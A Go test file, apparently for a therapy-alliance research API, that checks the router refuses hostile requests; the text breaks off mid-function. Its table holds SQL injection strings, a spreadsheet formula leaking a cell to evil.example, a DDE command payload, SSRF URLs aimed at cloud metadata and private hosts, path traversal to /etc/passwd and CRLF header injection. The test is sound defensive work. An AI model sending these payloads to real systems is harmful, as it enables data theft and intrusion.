package api_test

// A table of hostile requests through the real router. Each row states the
// answer the API owes: a 4xx problem+json with a stable field/code, or a
// correct 2xx where the input is in fact valid (the comment on the row says
// why). Server timeouts against slowloris clients are set in
// cmd/alliance/main.go and tested on the real binary in
// cmd/alliance/shutdown_test.go.

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	_ "github.com/mattn/go-sqlite3"

	"github.com/alliance-project/alliance/api"
	"github.com/alliance-project/alliance/internal/store"
)

const hostileAnswers = `[5,4,5,4,5,5,4,4,5,4,4,5]`

// hostileCase is one hostile request and the answer it must get.
type hostileCase struct {
	name   string
	method string // default POST
	// path is a raw request-target; "{dyad}" and "{study}" are replaced.
	// Default: the dyad's ratings collection.
	path        string
	contentType string // default application/json; "-" sends none
	header      http.Header
	body        string
	status      int
	field, code string // the expected errors[] entry of a problem ("" = any)
	// check inspects a 2xx body further.
	check func(t *testing.T, body []byte)
}

// hostileRating is a rating body for session n of the client with the
// given answers literal.
func hostileRating(n int, answers string) string {
	return fmt.Sprintf(`{"session":%d,"role":"client","answers":%s}`, n, answers)
}

// hostileHook is a webhook registration for url.
func hostileHook(url string) string {
	return `{"url":` + strconv.Quote(url) + `,"events":["alert.raised"]}`
}

// hostileAnswersWith is the reference answers with answers[0] replaced by
// the raw JSON literal v.
func hostileAnswersWith(v string) string {
	return `[` + v + `,4,5,4,5,5,4,4,5,4,4,5]`
}

func hostileTotalMean(t *testing.T, body []byte, want float64) {
	t.Helper()
	var r api.RatingResponse
	if err := json.Unmarshal(body, &r); err != nil {
		t.Fatal(err)
	}
	if r.Scores.Total.Mean == nil || *r.Scores.Total.Mean != want {
		t.Errorf("total mean = %v, want %v; body %s", r.Scores.Total.Mean, want, body)
	}
}

func TestHostileRequests(t *testing.T) {
	e := fzNewEnv(t)
	deep := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	deepObj := func(n int) string { return strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n) }
	ones := func(n int, v string) string { return "[" + strings.TrimSuffix(strings.Repeat(v+",", n), ",") + "]" }

	cases := []hostileCase{
		// --- encoding ---
		{name: "invalid UTF-8 in a string", body: "{\"session\":1,\"role\":\"cli\xffent\",\"answers\":" + hostileAnswers + "}",
			status: 400, field: "", code: "invalid_utf8"},
		{name: "invalid UTF-8 outside strings", body: "\xfe\xff" + hostileRating(1, hostileAnswers), status: 400, code: "invalid_utf8"},
		{name: "UTF-8 BOM", body: "\xef\xbb\xbf" + hostileRating(1, hostileAnswers), status: 400, code: "malformed_json"},
		{name: "NUL byte after the object", body: hostileRating(1, hostileAnswers) + "\x00", status: 400, code: "trailing_data"},
		// A lone surrogate escape is valid JSON text; Go decodes it to U+FFFD.
		// Here it lands in role, which is then simply not a role.
		{name: "lone surrogate escape", body: `{"session":1,"role":"\ud800","answers":` + hostileAnswers + `}`,
			status: 422, field: "role", code: "invalid_value"},

		// --- structure ---
		// encoding/json refuses nesting deeper than 10000 before decoding.
		{name: "10k-deep array body", body: deep(10_001), status: 400, code: "malformed_json"},
		{name: "100k-deep array body", body: deep(100_000), status: 400, code: "malformed_json"},
		{name: "10k-deep object in answers", body: `{"session":1,"role":"client","answers":` + deepObj(10_001) + `}`,
			status: 400, code: "malformed_json"},
		// Exactly at the limit it is valid JSON of the wrong type.
		{name: "9999-deep array in answers", body: `{"session":1,"role":"client","answers":` + deep(9_999) + `}`,
			status: 400, code: "wrong_type"},
		{name: "null body", body: `null`, status: 422},                                            // a JSON null decodes to the zero request: every required field is reported
		{name: "array body", body: `[]`, status: 400, field: "(body)", code: "wrong_type"},        // not an object
		{name: "string body", body: `"rating"`, status: 400, field: "(body)", code: "wrong_type"}, // not an object
		{name: "empty object", body: `{}`, status: 422, field: "answers", code: "required"},       // no session, role or answers
		{name: "empty body", body: ``, status: 400, code: "empty_body"},                           // nothing to decode
		{name: "whitespace body", body: " \r\n\t ", status: 400, code: "empty_body"},              // nothing to decode
		{name: "unknown field", body: `{"session":1,"role":"client","answers":[],"admin":true}`, status: 400, field: "admin", code: "unknown_field"},
		{name: "two objects", body: hostileRating(1, hostileAnswers) + hostileRating(2, hostileAnswers), status: 400, code: "trailing_data"},
		{name: "object then garbage", body: hostileRating(1, hostileAnswers) + ` x`, status: 400, code: "trailing_data"},
		{name: "truncated", body: `{"session":1,"role":"client","answers":[5,4`, status: 400, code: "malformed_json"},

		// --- numbers ---
		{name: "1e309 answer", body: hostileRating(1, hostileAnswersWith("1e309")), status: 400, code: "wrong_type"}, // overflows float64
		{name: "1e309 session", body: hostileRating(1, hostileAnswers)[:0] + `{"session":1e309,"role":"client","answers":` + hostileAnswers + `}`,
			status: 400, field: "session", code: "wrong_type"},
		{name: "-0 answer", body: hostileRating(1, hostileAnswersWith("-0")), status: 422, field: "answers[0]", code: "out_of_range"}, // -0 == 0 < 1
		{name: "-0 session", body: `{"session":-0,"role":"client","answers":` + hostileAnswers + `}`, status: 422, field: "session", code: "out_of_range"},
		{name: `"5" as a string`, body: hostileRating(1, hostileAnswersWith(`"5"`)), status: 400, code: "wrong_type"},
		{name: "5.0000001 answer", body: hostileRating(1, hostileAnswersWith("5.0000001")), status: 422, field: "answers[0]", code: "out_of_range"},
		{name: "4.0000001 answer", body: hostileRating(1, hostileAnswersWith("4.0000001")), status: 422, field: "answers[0]", code: "not_on_step"},
		{name: "1.5 session", body: `{"session":1.5,"role":"client","answers":` + hostileAnswers + `}`, status: 400, field: "session", code: "wrong_type"},
		{name: "huge session", body: `{"session":99999999999999999999,"role":"client","answers":` + hostileAnswers + `}`, status: 400, field: "session", code: "wrong_type"},
		{name: "session 10001", body: hostileRating(10_001, hostileAnswers), status: 422, field: "session", code: "out_of_range"},
		{name: "NaN literal", body: hostileRating(1, hostileAnswersWith("NaN")), status: 400, code: "malformed_json"},
		{name: "Infinity literal", body: hostileRating(1, hostileAnswersWith("Infinity")), status: 400, code: "malformed_json"},
		{name: "hex literal", body: hostileRating(1, hostileAnswersWith("0x5")), status: 400, code: "malformed_json"},
		{name: "true as an answer", body: hostileRating(1, hostileAnswersWith("true")), status: 400, code: "wrong_type"},
		// 5.0 and 5e0 are the number 5 in JSON: the answer is valid.
		{name: "5.0 answer is valid", body: hostileRating(1, `[5.0,5,5,5,5,5,5,5,5,5,5,5]`), status: 201,
			check: func(t *testing.T, b []byte) { hostileTotalMean(t, b, 5) }},
		{name: "5e0 answer is valid", body: hostileRating(2, `[5e0,5,5,5,5,5,5,5,5,5,5,5]`), status: 201,
			check: func(t *testing.T, b []byte) { hostileTotalMean(t, b, 5) }},
		// Within the step tolerance of 5: stored as exactly 5, what was meant.
		{name: "4.9999999999 is stored as 5", body: hostileRating(4, hostileAnswersWith("4.9999999999")), status: 201,
			check: func(t *testing.T, b []byte) {
				var r api.RatingResponse
				if err := json.Unmarshal(b, &r); err != nil || r.Answers[0] == nil || *r.Answers[0] != 5 {
					t.Errorf("answers[0] stored as %v, want exactly 5", r.Answers[0])
				}
			}},

		// --- duplicated keys: encoding/json keeps the last value. ---
		{name: "duplicated session key, last wins", body: `{"session":1,"session":3,"role":"client","answers":` + hostileAnswers + `}`, status: 201,
			check: func(t *testing.T, b []byte) {
				var r api.RatingResponse
				_ = json.Unmarshal(b, &r)
				if r.Session != 3 {
					t.Errorf("session = %d, want 3 (the last duplicate)", r.Session)
				}
			}},
		{name: "duplicated role key, last invalid", body: `{"session":4,"role":"client","role":"admin","answers":` + hostileAnswers + `}`,
			status: 422, field: "role", code: "invalid_value"},

		// --- huge arrays within the body limit ---
		{name: "1e5 answers", body: hostileRating(5, ones(100_000, "1")), status: 422, field: "answers", code: "wrong_count"},
		{name: "1e5 null answers", body: hostileRating(5, ones(100_000, "null")), status: 422, field: "answers", code: "wrong_count"},
		{name: "empty answers", body: hostileRating(5, `[]`), status: 422, field: "answers", code: "wrong_count"},
		// --- over the limit ---
		{name: "body over 1 MiB", body: hostileRating(5, ones(600_000, "1")), status: 413},
		{name: "1 MiB of whitespace", body: strings.Repeat(" ", 1<<20+1) + "{}", status: 413},

		// --- injection strings in codes ---
		{name: "SQL injection in client_code", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"'; DROP TABLE ratings;--","counsellor_code":"K-01"}`, status: 422, field: "client_code", code: "invalid_code"},
		{name: "SQL injection in counsellor_code", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"C-9","counsellor_code":"1' OR '1'='1"}`, status: 422, field: "counsellor_code", code: "invalid_code"},
		{name: "formula injection =HYPERLINK", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","counsellor_code":"K-01"}`, status: 422, field: "client_code", code: "invalid_code"},
		{name: "formula injection +cmd", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"C-9","counsellor_code":"+cmd|' /C calc'!A0"}`, status: 422, field: "counsellor_code", code: "invalid_code"},
		{name: "formula injection -1+1", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"-1+1","counsellor_code":"K-01"}`, status: 422, field: "client_code", code: "invalid_code"},
		{name: "formula injection @SUM", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"@SUM(1+1)","counsellor_code":"K-01"}`, status: 422, field: "client_code", code: "invalid_code"},
		{name: "tab-prefixed code", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"\tC-1","counsellor_code":"K-01"}`, status: 422, field: "client_code", code: "invalid_code"},
		{name: "65-character code", path: "/v1/studies/{study}/dyads",
			body: `{"client_code":"` + strings.Repeat("C", 65) + `","counsellor_code":"K-01"}`, status: 422, field: "client_code", code: "invalid_code"},
		// The filter is a bound parameter: an injection is just a code nobody has.
		{name: "SQL injection in counsellor_code filter", method: "GET",
			path: "/v1/studies/{study}/dyads?counsellor_code=" + url.QueryEscape("' OR 1=1--"), status: 200,
			check: func(t *testing.T, b []byte) {
				var l api.DyadList
				if err := json.Unmarshal(b, &l); err != nil || len(l.Items) != 0 {
					t.Errorf("injection filter matched %d dyads (err %v), want 0", len(l.Items), err)
				}
			}},
		// A cursor is opaque: anything that is not one this list gave out is
		// refused, not run as a keyset bound or answered with an empty page.
		{name: "SQL injection in after cursor", method: "GET", path: "/v1/studies?after=" + url.QueryEscape("' OR 1=1--"), status: 400, field: "after", code: "invalid_cursor"},
		{name: "a raw id as cursor", method: "GET", path: "/v1/studies?after=st_01jd8x2k4m5n6p7q8r9s0t1v2w", status: 400, field: "after", code: "invalid_cursor"},
		{name: "another list's cursor", method: "GET", path: "/v1/studies?after=" + url.QueryEscape("a2V5cwBrZXlfMDFqZDh4Mms0bTVuNnA3cThyOXMwdDF2Mnc"), status: 400, field: "after", code: "invalid_cursor"},
		{name: "a misspelt query parameter", method: "GET", path: "/v1/studies/{study}/agreement?sesion=first", status: 400, field: "sesion", code: "unknown_parameter"},
		{name: "a parameter the route does not take", method: "GET", path: "/v1/studies/{study}/dyads?session=1", status: 400, field: "session", code: "unknown_parameter"},
		// One value each, or which one counts is a guess (the first, silently).
		{name: "a parameter given twice", method: "GET", path: "/v1/studies/{study}/agreement?conf=0.95&conf=0.9", status: 400, field: "conf", code: "repeated_parameter"},
		{name: "a single scale given twice", method: "GET", path: "/v1/studies/{study}/summary?scale=goal&scale=task", status: 400, field: "scale", code: "repeated_parameter"},
		// An unset variable in a frontend's URL is not "no filter": the
		// first dyad of the whole study would be taken for the one meant.
		{name: "an empty client code", method: "GET", path: "/v1/studies/{study}/dyads?client_code=", status: 400, field: "client_code", code: "empty_value"},
		{name: "an empty session", method: "GET", path: "/v1/studies/{study}/agreement?session=", status: 400, field: "session", code: "empty_value"},
		{name: "an empty item of a list", method: "GET", path: "/v1/studies/{study}/agreement?scale=goal&scale=", status: 400, field: "scale", code: "empty_value"},
		{name: "a client code given twice", method: "GET", path: "/v1/studies/{study}/dyads?client_code=A&client_code=B", status: 400, field: "client_code", code: "repeated_parameter"},
		{name: "a gzip-encoded body", header: http.Header{"Content-Encoding": {"gzip"}}, body: hostileRating(1, hostileAnswers),
			status: 415, field: "Content-Encoding", code: "unsupported_encoding"},
		// Survey links: what is missing is required, what does not parse is
		// invalid, and a link must live long enough to reach a phone.
		{name: "a link without a session", path: "/v1/dyads/{dyad}/invitations", body: `{"role":"client"}`, status: 422, field: "session", code: "required"},
		{name: "a link lasting abc", path: "/v1/dyads/{dyad}/invitations", body: `{"session":9,"role":"client","expires_in":"abc"}`,
			status: 422, field: "expires_in", code: "invalid_value"},
		{name: "a link lasting 1ns", path: "/v1/dyads/{dyad}/invitations", body: `{"session":9,"role":"client","expires_in":"1ns"}`,
			status: 422, field: "expires_in", code: "out_of_range"},
		// Names people give: no hidden characters, no silent length cap.
		{name: "a bidi override in a study name", path: "/v1/studies", body: `{"name":"pilot \u202egnp.exe","forms":{"client":"wai_sr_client","counsellor":"wai_sr_therapist"}}`,
			status: 422, field: "name", code: "invalid_characters"},
		{name: "a NUL in a key name", path: "/v1/keys", body: `{"name":"tab\u0000let","scopes":["collect"]}`, status: 422, field: "name", code: "invalid_characters"},
		{name: "a key name of 101 characters", path: "/v1/keys", body: `{"name":"` + strings.Repeat("k", 101) + `","scopes":["collect"]}`,
			status: 422, field: "name", code: "too_long"},
		{name: "a key for an unknown study", path: "/v1/keys", body: `{"name":"k","scopes":["collect"],"study_id":"st_nope"}`,
			status: 422, field: "study_id", code: "unknown_study"},
		// Not text: PostgreSQL refuses a NUL in any text parameter, which
		// answered 500 before the router refused it.
		{name: "a NUL in a code filter", method: "GET", path: "/v1/studies/{study}/dyads?client_code=C%00-1", status: 400, field: "client_code", code: "invalid_value"},
		{name: "invalid UTF-8 in an audit filter", method: "GET", path: "/v1/audit?resource_id=%FF", status: 400, field: "resource_id", code: "invalid_value"},

		// --- SSRF: webhook URLs (as in production, loopback is refused;
		// the same check runs on the dialled IP at every delivery: see
		// internal/webhook's TestDialTimeEgressCheck) ---
		{name: "webhook to the cloud metadata address", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://169.254.169.254/latest/meta-data/"), status: 422, field: "url", code: "refused"},
		{name: "webhook to AWS metadata over IPv6", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://[fd00:ec2::254]/latest/meta-data/"), status: 422, field: "url", code: "refused"},
		{name: "webhook to Alibaba metadata", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://100.100.100.200/latest/meta-data/"), status: 422, field: "url", code: "refused"},
		{name: "webhook to metadata by name (does not resolve here, refused either way)", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://metadata.google.internal/computeMetadata/v1/"), status: 422, field: "url", code: "refused"},
		{name: "webhook to loopback", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://127.0.0.1/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to localhost", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("http://localhost:8080/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to IPv6 loopback", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://[::1]/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to IPv4-mapped loopback", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://[::ffff:127.0.0.1]/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to 10/8", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://10.1.2.3/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to 172.16/12", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://172.16.0.1/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to 192.168/16", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://192.168.1.1:8443/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to IPv6 unique local", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://[fc00::1]/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to IPv6 link-local", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://[fe80::1]/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to 0.0.0.0", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://0.0.0.0/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to carrier-grade NAT space", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://100.64.0.1/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to metadata through NAT64", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://[64:ff9b::a9fe:a9fe]/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook to metadata through 6to4", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://[2002:a9fe:a9fe::1]/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook over plain http", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("http://93.184.215.14/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook over another scheme", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("gopher://93.184.215.14/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook URL with credentials", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://user:pw@93.184.215.14/h"), status: 422, field: "url", code: "refused"},
		{name: "webhook URL not absolute", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("/v1/studies"), status: 422, field: "url", code: "refused"},
		{name: "webhook to a public address is registered", path: "/v1/studies/{study}/webhooks",
			body: hostileHook("https://93.184.215.14/h"), status: 201},

		// --- path traversal and odd ids ---
		{name: "encoded traversal in dyad id", method: "GET", path: "/v1/dyads/..%2F..%2Fetc%2Fpasswd", status: 404},
		{name: "encoded traversal in ratings post", path: "/v1/dyads/..%2F..%2Fetc%2Fpasswd/ratings", body: hostileRating(1, hostileAnswers), status: 404},
		{name: "plain traversal", method: "GET", path: "/v1/dyads/../../etc/passwd", status: 404},
		{name: "NUL study id", method: "GET", path: "/v1/studies/%00", status: 404},
		{name: "NUL dyad id on write", path: "/v1/dyads/%00/ratings", body: hostileRating(1, hostileAnswers), status: 404},
		{name: "SQL in dyad id", method: "GET", path: "/v1/dyads/" + url.PathEscape("x' OR '1'='1"), status: 404},
		{name: "4 KiB dyad id", method: "GET", path: "/v1/dyads/" + strings.Repeat("d", 4096), status: 404},
		{name: "session path not a number", method: "GET", path: "/v1/dyads/{dyad}/sessions/1%20OR%201=1", status: 400, field: "session", code: "invalid_value"},
		{name: "role path not a role", method: "GET", path: "/v1/dyads/{dyad}/sessions/1/ratings/admin", status: 422, field: "role", code: "invalid_value"},
		// gin routes on the decoded path, so an encoded slash splits the
		// segment and nothing matches: 404, never a file or another route.
		{name: "encoded slash in role", method: "GET", path: "/v1/dyads/{dyad}/sessions/1/ratings/..%2Fclient", status: 404},

		// --- instrument definitions: bounded, and refused before any work ---
		{name: "definition of 1 MB", path: "/v1/instruments", body: `{"id":"big","name":"` + strings.Repeat("x", 1_000_000) + `"}`, status: 413},
		{name: "definition just over 64 KiB", path: "/v1/instruments", body: strings.Replace(customDefinition, `"citation": "`, `"citation": "`+strings.Repeat("x", 64<<10), 1), status: 413},
		{name: "definition of 10,000 items", path: "/v1/instruments", body: strings.Replace(customDefinition, `"items": 6`, `"items": 10000`, 1),
			status: 422, field: "items", code: "out_of_range"},
		{name: "definition with 10,000 labels", path: "/v1/instruments",
			body:   strings.Replace(customDefinition, `"labels": ["c one", "c two", "c three", "c four", "c five", "c six"]`, `"labels": `+ones(10_000, `"x"`), 1),
			status: 422, field: "forms[0].labels", code: "wrong_count"},
		{name: "definition with 10,000 parallel pairs", path: "/v1/instruments",
			body:   strings.Replace(customDefinition, `"parallel": [`, `"parallel": [`+strings.Repeat(`{"client":1,"counsellor":1},`, 2000), 1),
			status: 422, field: "parallel", code: "wrong_count"},
		{name: "definition nested 10,001 deep", path: "/v1/instruments", body: `{"id":` + deep(10_001) + `}`, status: 400, code: "malformed_json"},
		{name: "definition nested 5,000 deep in an unknown field", path: "/v1/instruments", body: `{"x":` + deepObj(5_000) + `}`, status: 400, field: "x", code: "unknown_field"},
		{name: "definition with a bound of 1e999", path: "/v1/instruments", body: strings.Replace(customDefinition, `"max": 7`, `"max": 1e999`, 1),
			status: 400, field: "scale.max", code: "wrong_type"},
		{name: "definition with NaN", path: "/v1/instruments", body: strings.Replace(customDefinition, `"max": 7`, `"max": NaN`, 1), status: 400, code: "malformed_json"},
		{name: "definition with Infinity", path: "/v1/instruments", body: strings.Replace(customDefinition, `"step": 1`, `"step": Infinity`, 1), status: 400, code: "malformed_json"},
		{name: "definition with a bound of 1e308", path: "/v1/instruments", body: strings.Replace(customDefinition, `"max": 7`, `"max": 1e308`, 1),
			status: 422, field: "scale.max", code: "out_of_range"},
		{name: "definition with a million scale points", path: "/v1/instruments", body: strings.Replace(customDefinition, `"step": 1`, `"step": 0.000006`, 1),
			status: 422, field: "scale.step", code: "out_of_range"},
		{name: "definition with 150 forms", path: "/v1/instruments",
			body:   strings.Replace(customDefinition, `"forms": [`, `"forms": [`+strings.Repeat(`{"id":"tst_x","role":"client"},`, 150), 1),
			status: 422, field: "forms", code: "wrong_count"},
		{name: "definition as an array", path: "/v1/instruments", body: `[]`, status: 400, code: "wrong_type"},
		{name: "definition with item wording as labels", path: "/v1/instruments",
			body:   strings.Replace(customDefinition, `"c one"`, `"I feel my counsellor and I agree on what is important to work on"`, 1),
			status: 422, field: "forms[0].labels[0]", code: "too_long"},

		// --- content types ---
		{name: "text/plain", contentType: "text/plain", body: hostileRating(1, hostileAnswers), status: 415, field: "Content-Type", code: "unsupported_media_type"},
		{name: "multipart", contentType: "multipart/form-data; boundary=x", body: "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n",
			status: 415, field: "Content-Type", code: "unsupported_media_type"},
		{name: "form-urlencoded", contentType: "application/x-www-form-urlencoded", body: "session=1&role=client", status: 415, code: "unsupported_media_type"},
		{name: "malformed content type", contentType: "application/json; ;;=", body: hostileRating(1, hostileAnswers), status: 415, code: "unsupported_media_type"},
		{name: "json lookalike", contentType: "application/jsonx", body: hostileRating(1, hostileAnswers), status: 415, code: "unsupported_media_type"},
		// A missing Content-Type is tolerated (curl -d sends form-urlencoded,
		// but hand-written clients often send none): the body must still be
		// strict JSON. We document this leniency rather than refuse it.
		{name: "missing content type is accepted as JSON", contentType: "-", body: hostileRating(6, hostileAnswers), status: 201},
		{name: "missing content type, non-JSON body", contentType: "-", body: "session=1&role=client", status: 400, code: "malformed_json"},
		// Parameters and +json suffixes are allowed by design (RFC 6839).
		{name: "json with charset", contentType: "application/json; charset=utf-8", body: hostileRating(7, hostileAnswers), status: 201},
		{name: "problem+json content type", contentType: "application/problem+json", body: hostileRating(8, hostileAnswers), status: 201},

		// --- headers ---
		{name: "256-byte Idempotency-Key", header: http.Header{"Idempotency-Key": {strings.Repeat("k", 256)}},
			body: hostileRating(9, hostileAnswers), status: 400, field: "Idempotency-Key", code: "invalid_header"},
		{name: "64 KiB Idempotency-Key", header: http.Header{"Idempotency-Key": {strings.Repeat("k", 64<<10)}},
			body: hostileRating(9, hostileAnswers), status: 400, field: "Idempotency-Key", code: "invalid_header"},
		{name: "255-byte Idempotency-Key is valid", header: http.Header{"Idempotency-Key": {strings.Repeat("k", 255)}},
			body: hostileRating(9, hostileAnswers), status: 201},
		{name: "CRLF in Idempotency-Key", header: http.Header{"Idempotency-Key": {"abc\r\nX-Injected: 1"}},
			body: hostileRating(10, hostileAnswers), status: 400, field: "Idempotency-Key", code: "invalid_header"},
		{name: "non-ASCII Idempotency-Key", header: http.Header{"Idempotency-Key": {"clé-1"}},
			body: hostileRating(10, hostileAnswers), status: 400, field: "Idempotency-Key", code: "invalid_header"},
		{name: "SQL in Idempotency-Key is just a key", header: http.Header{"Idempotency-Key": {"';DROP_TABLE_idempotency_keys;--"}},
			body: hostileRating(10, hostileAnswers), status: 201},
		{name: "CRLF in X-Request-ID is not echoed", method: "GET", path: "/v1/studies",
			header: http.Header{"X-Request-Id": {"abc\r\nSet-Cookie: x=1"}}, status: 200},

		// --- methods ---
		{name: "DELETE a dyad without confirming", method: "DELETE", path: "/v1/dyads/{dyad}", status: 422, field: "confirm", code: "required"},
		{name: "DELETE a dyad confirming another id", method: "DELETE", path: "/v1/dyads/{dyad}?confirm=dy_other", status: 422, field: "confirm", code: "mismatch"},
		{name: "DELETE a dyad that does not exist", method: "DELETE", path: "/v1/dyads/dy_nope?confirm=dy_nope", status: 404},
		{name: "DELETE a study that does not exist", method: "DELETE", path: "/v1/studies/st_nope?confirm=st_nope", status: 404},
		{name: "withdraw with free text", method: "POST", path: "/v1/dyads/{dyad}/withdraw", body: `{"scope":"client","reason_code":"Anna said she is moving"}`, status: 422, field: "reason_code", code: "invalid_value"},
		{name: "void with no reason", method: "POST", path: "/v1/dyads/{dyad}/sessions/1/ratings/client/void", body: `{}`, status: 422, field: "reason_code", code: "required"},
		{name: "revoke an unknown survey link", method: "DELETE", path: "/v1/invitations/als_nope", status: 404},
		{name: "TRACE", method: "TRACE", path: "/v1/studies", status: 405},
	}

	reqIDRE := regexp.MustCompile(`^[A-Za-z0-9._-]{1,64}$`)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			method := tc.method
			if method == "" {
				method = http.MethodPost
			}
			target := tc.path
			if target == "" {
				target = "/v1/dyads/{dyad}/ratings"
			}
			target = strings.NewReplacer("{dyad}", e.dyadID, "{study}", e.studyID).Replace(target)
			u, err := url.ParseRequestURI(target)
			if err != nil {
				t.Fatalf("bad test target %q: %v", target, err)
			}
			ct := tc.contentType
			switch ct {
			case "":
				ct = "application/json"
			case "-":
				ct = ""
			}
			var body []byte
			if method != http.MethodGet || tc.body != "" {
				body = []byte(tc.body)
			}
			rec := e.sendURL(method, u, ct, body, tc.header)
			p := fzCheck(t, method+" "+target, rec)
			if rec.Code != tc.status {
				t.Fatalf("%s %.80s = %d, want %d; body %.400s", method, target, rec.Code, tc.status, rec.Body)
			}
			if p != nil && tc.code != "" {
				found := false
				for _, fe := range p.Errors {
					if fe.Code == tc.code && (tc.field == "" || fe.Field == tc.field) {
						found = true
					}
				}
				if !found {
					t.Errorf("problem errors %+v lack {field %q, code %q}", p.Errors, tc.field, tc.code)
				}
			}
			if tc.check != nil {
				tc.check(t, rec.Body.Bytes())
			}
			// Nothing a client sends may be reflected into response headers.
			for k, vs := range rec.Header() {
				for _, v := range vs {
					if strings.ContainsAny(v, "\r\n") || strings.EqualFold(k, "X-Injected") || strings.EqualFold(k, "Set-Cookie") {
						t.Errorf("response header %s: %q reflects injected input", k, v)
					}
				}
			}
			if id := rec.Header().Get("X-Request-ID"); !reqIDRE.MatchString(id) {
				t.Errorf("X-Request-ID = %q, not a sane id", id)
			}
		})
	}

	// The injection attempts left the tables alone.
	rec := e.send(http.MethodGet, "/v1/dyads/"+e.dyadID+"/ratings", "", nil, nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("ratings after the hostile table = %d; body %s", rec.Code, rec.Body)
	}
}

// TestHostileTrailingCloserRefused: a valid object followed by a stray
// "]" or "}" must be refused like any other trailing data (dec.More()
// alone reports false before ']' or '}', so readJSON must not rely on it).
func TestHostileTrailingCloserRefused(t *testing.T) {
	e := fzNewEnv(t)
	for i, tail := range []string{"]", "}", " ]]]", "}{"} {
		body := hostileRating(20+i, hostileAnswers) + tail
		rec := e.send(http.MethodPost, "/v1/dyads/"+e.dyadID+"/ratings", "application/json", []byte(body), nil)
		p := fzCheck(t, "POST ratings", rec)
		if rec.Code != http.StatusBadRequest || p == nil {
			t.Errorf("body %q = %d, want 400 trailing_data; body %s", body, rec.Code, rec.Body)
			continue
		}
		if len(p.Errors) == 0 || p.Errors[0].Code != "trailing_data" {
			t.Errorf("body %q: errors %+v, want trailing_data", body, p.Errors)
		}
	}
}

// TestHostileDuplicateKeysFingerprint documents the idempotency side of
// duplicated keys: the fingerprint is over the raw bytes, so a body that
// means the same but is spelled differently under the same key is a 409,
// never a silent replay of a different request.
func TestHostileDuplicateKeysFingerprint(t *testing.T) {
	e := fzNewEnv(t)
	path := "/v1/dyads/" + e.dyadID + "/ratings"
	hdr := http.Header{"Idempotency-Key": {"dup-keys-1"}}
	first := `{"session":1,"role":"client","answers":` + hostileAnswers + `}`
	if rec := e.send(http.MethodPost, path, "application/json", []byte(first), hdr); rec.Code != http.StatusCreated {
		t.Fatalf("first = %d; %s", rec.Code, rec.Body)
	}
	dup := `{"session":2,"session":1,"role":"client","answers":` + hostileAnswers + `}`
	rec := e.send(http.MethodPost, path, "application/json", []byte(dup), hdr)
	fzCheck(t, "POST dup", rec)
	if rec.Code != http.StatusConflict {
		t.Fatalf("same key, same meaning, other bytes = %d, want 409; body %s", rec.Code, rec.Body)
	}
}

// TestHostileLockedDatabaseIs503: a write that cannot get the SQLite
// write lock within the busy timeout must be a 503 problem+json with
// Retry-After (the client may retry), never a 500, and reads must keep
// working meanwhile (WAL). Another process holds BEGIN IMMEDIATE here for
// longer than the store's 5 s busy timeout. Under real load (32
// connections, cmd/loadtest) the same "database is locked" error surfaced
// as 500: the error of the transaction itself (BEGIN IMMEDIATE or COMMIT)
// is returned untranslated by internal/store's transaction helper.
func TestHostileLockedDatabaseIs503(t *testing.T) {
	if testing.Short() {
		t.Skip("waits for the 5 s busy timeout")
	}
	ctx := context.Background()
	path := t.TempDir() + "/locked.db"
	w := newLogWitness(t)
	st, err := store.Open(ctx, path, w.log)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if err := st.Migrate(ctx, nil); err != nil {
		t.Fatal(err)
	}
	e := &fzEnv{h: adminHandler(t, st, api.Deps{}, w)}
	post := func(path, body string) *httptest.ResponseRecorder {
		return e.send(http.MethodPost, path, "application/json", []byte(body), nil)
